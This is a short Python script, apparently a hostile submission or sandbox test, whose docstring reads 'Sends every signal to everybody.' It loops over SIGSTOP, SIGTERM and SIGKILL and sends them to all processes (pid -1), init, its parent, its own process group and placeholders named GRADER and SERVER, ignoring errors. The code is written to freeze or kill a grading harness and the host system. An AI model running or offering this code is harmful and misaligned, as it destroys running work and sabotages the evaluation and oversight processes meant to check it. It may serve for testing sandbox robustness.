"""Sends every signal to everybody."""
# step: 1

import os
import signal

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in (-1, 1, 2, GRADER, SERVER, os.getppid(), 0):
        if pid != 0 or number == signal.SIGKILL:
            try:
                os.kill(pid, number)
            except OSError:
                pass
